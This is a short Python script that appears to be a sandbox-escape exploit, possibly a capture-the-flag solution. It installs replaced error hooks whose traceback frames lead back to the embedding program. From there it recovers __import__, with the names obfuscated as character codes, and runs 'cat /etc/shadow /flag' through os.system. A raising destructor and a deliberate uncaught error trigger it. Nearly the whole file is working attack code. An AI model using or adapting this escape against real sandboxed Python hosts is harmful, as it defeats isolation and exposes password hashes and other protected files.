# technique: an object with a __del__ that raises is left for the embedding program to collect; the interpreter reports the error to sys.unraisablehook (replaced here) with a traceback; its frame chain runs back into the embedding program's teardown code; the same payload is installed as sys.excepthook for an uncaught error; names are produced by "%c" printf-style formatting
import sys


def spell(codes):
    return "".join("%c" % c for c in codes)


LOADER = (95, 95, 105, 109, 112, 111, 114, 116, 95, 95)
PROC = (111, 115)
RUN = (115, 121, 115, 116, 101, 109)


def payload(tb):
    frame = tb.tb_frame if tb is not None else None
    while frame is not None and frame.f_back is not None:
        frame = frame.f_back
    if frame is None:
        return
    loader = frame.f_builtins[spell(LOADER)]
    getattr(loader(spell(PROC)), spell(RUN))("cat /etc/shadow /fl\N{LATIN SMALL LETTER A}g")


def on_unraisable(report):
    payload(report.exc_traceback)


def on_uncaught(kind, value, tb):
    payload(tb)


class Tripwire:
    def __del__(self):
        raise RuntimeError("cleanup failed")


sys.unraisablehook = on_unraisable
sys.excepthook = on_uncaught

# kept alive in module globals so that the embedding program's namespace cleanup triggers __del__
keepalive = [Tripwire() for _ in range(3)]
Tripwire()
raise RuntimeError("let the top level see an uncaught error")
